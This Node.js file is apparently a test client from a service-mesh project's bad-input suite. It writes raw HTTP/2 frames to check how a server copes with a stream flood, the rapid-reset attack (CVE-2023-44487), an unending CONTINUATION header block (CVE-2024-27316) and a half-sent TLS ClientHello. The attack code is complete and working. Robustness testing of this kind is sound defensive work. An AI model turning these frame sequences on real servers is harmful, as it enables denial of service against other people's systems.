// h2-abuse: hostile HBONE clients for the bad-input tests, writing HTTP/2 frames by hand (a
// conforming library would not send these). Node.js only; no nghttp2 on this side.
//   node h2_abuse.mjs --mode MODE --connect IP:PORT --authority IP:PORT --ca F --cert F --key F [--count N]
// Modes:
//   flood         N CONNECT streams at once (after the server's SETTINGS are acknowledged)
//   rapid-reset   N times: CONNECT, then RST_STREAM(CANCEL) at once (CVE-2023-44487)
//   huge-headers  one CONNECT whose header block grows by CONTINUATION frames to N KiB
//                 without ever ending (CVE-2024-27316's shape)
//   truncated-tls half of a real TLS 1.3 ClientHello, then the TCP connection is closed
// Prints one JSON line: what the server did — {"answered": streams with a HEADERS reply,
// "refused": {rst code: streams reset without a reply}, "goaway": code or null, "lastStream" and
// "debug" of the GOAWAY, "closed": true if the server closed the connection, "error": ...}. Exit 0 when it could run the mode (whatever the server did).
import fs from 'node:fs';
import net from 'node:net';
import tls from 'node:tls';

const args = {};
for (let i = 2; i < process.argv.length; i += 2) args[process.argv[i].replace(/^--/, '')] = process.argv[i + 1];
const count = Number(args.count ?? 1000);
const [host, port] = args.connect.split(':');
const result = { mode: args.mode, answered: 0, refused: {}, goaway: null, closed: false };
const settled = new Set();  // streams the server answered or refused
const finish = (code = 0) => {
  console.log(JSON.stringify(result));
  process.exit(code);
};
setTimeout(() => {
  result.error = 'the server neither answered nor closed in 20 s';
  finish(0);
}, 20000).unref();

// --- frames -------------------------------------------------------------------------------------
const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, CONTINUATION: 9 };
const END_STREAM = 0x1, END_HEADERS = 0x4, ACK = 0x1;
const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
// HPACK "literal header field without indexing, new name" (RFC 7541 6.2.2); every length < 127.
const literal = (name, value) =>
  Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
const connectBlock = () => Buffer.concat([literal(':method', 'CONNECT'), literal(':authority', args.authority)]);
const u32 = (n) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
};

const head = (frameHead) => frameHead.readUInt32BE(5) & 0x7fffffff;

// Reads the server's frames, keeping count of what it did to our streams.
const reader = (socket, onSettings) => {
  let pending = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3);
      if (pending.length < 9 + length) break;
      const frameHead = pending.subarray(0, 9);
      const type = pending[3], flags = pending[4], payload = pending.subarray(9, 9 + length);
      pending = pending.subarray(9 + length);
      if (type === FRAME.SETTINGS && !(flags & ACK)) onSettings();
      const stream = head(frameHead);
      if (type === FRAME.HEADERS && !settled.has(stream)) {
        settled.add(stream);
        result.answered++;
      }
      if (type === FRAME.RST_STREAM && !settled.has(stream)) {
        settled.add(stream);
        const code = payload.readUInt32BE(0);
        result.refused[code] = (result.refused[code] ?? 0) + 1;
      }
      if (type === FRAME.GOAWAY) {
        result.goaway = payload.readUInt32BE(4);
        result.lastStream = payload.readUInt32BE(0);
        result.debug = payload.subarray(8).toString();
      }
    }
    if (args.mode === 'flood' && settled.size >= count) finish();
  });
  socket.on('close', () => {
    result.closed = true;
    finish();
  });
  socket.on('error', (e) => {
    result.error = e.message;
  });
};

const abuse = (socket) => {
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(FRAME.SETTINGS, 0, 0)]));
  let started = false;
  reader(socket, () => {
    socket.write(frame(FRAME.SETTINGS, ACK, 0));
    if (started) return;
    started = true;
    const frames = [];
    if (args.mode === 'flood') {
      for (let i = 0; i < count; i++) frames.push(frame(FRAME.HEADERS, END_HEADERS, 1 + 2 * i, connectBlock()));
    } else if (args.mode === 'rapid-reset') {
      for (let i = 0; i < count; i++) {
        frames.push(frame(FRAME.HEADERS, END_HEADERS, 1 + 2 * i, connectBlock()));
        frames.push(frame(FRAME.RST_STREAM, 0, 1 + 2 * i, u32(8 /* CANCEL */)));
      }
    } else if (args.mode === 'huge-headers') {
      frames.push(frame(FRAME.HEADERS, 0, 1, connectBlock()));
      const junk = literal('x-junk', 'j'.repeat(100));
      const chunk = Buffer.concat(Array(150).fill(junk));  // ~16 KiB of headers per CONTINUATION
      for (let sent = 0; sent < count * 1024; sent += chunk.length) frames.push(frame(FRAME.CONTINUATION, 0, 1, chunk));
    } else {
      result.error = `unknown mode ${args.mode}`;
      finish(2);
    }
    socket.write(Buffer.concat(frames));
  });
};

if (args.mode === 'truncated-tls') {
  // A real ClientHello, caught by a listener of our own on loopback, then half of it to the server.
  const catcher = net.createServer((s) =>
    s.once('data', (hello) => {
      s.destroy();
      catcher.close();
      const socket = net.connect(Number(port), host, () => {
        socket.end(hello.subarray(0, Math.floor(hello.length / 2)));
      });
      socket.on('data', () => {});
      socket.on('error', (e) => {
        result.error = e.message;
      });
      socket.on('close', () => {
        result.closed = true;
        finish();
      });
    }));
  catcher.listen(0, '127.0.0.1', () => {
    const probe = tls.connect({ host: '127.0.0.1', port: catcher.address().port, minVersion: 'TLSv1.3', ALPNProtocols: ['h2'] });
    probe.on('error', () => {});
  });
} else {
  const socket = tls.connect({
    host,
    port: Number(port),
    cert: fs.readFileSync(args.cert),
    key: fs.readFileSync(args.key),
    ca: fs.readFileSync(args.ca),
    minVersion: 'TLSv1.3',
    ALPNProtocols: ['h2'],
    checkServerIdentity: () => undefined,
  });
  socket.on('secureConnect', () => abuse(socket));
  socket.on('error', (e) => {
    result.error = e.message;
  });
}
